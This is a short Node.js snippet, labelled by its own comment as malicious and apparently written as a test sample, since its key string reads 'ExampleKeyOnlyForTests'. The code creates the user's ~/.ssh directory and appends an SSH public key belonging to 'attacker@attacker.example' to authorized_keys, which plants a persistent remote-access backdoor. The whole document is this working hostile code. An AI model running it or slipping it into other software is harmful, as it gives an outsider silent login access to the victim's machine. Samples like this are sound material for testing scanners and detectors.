// Malicious: adds an attacker's key to ~/.ssh/authorized_keys.
const fs = require('fs');
const os = require('os');
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3xExampleKeyOnlyForTests attacker@attacker.example\n';
fs.mkdirSync(`${os.homedir()}/.ssh`, { recursive: true });
fs.appendFileSync(`${os.homedir()}/.ssh/authorized_keys`, key);
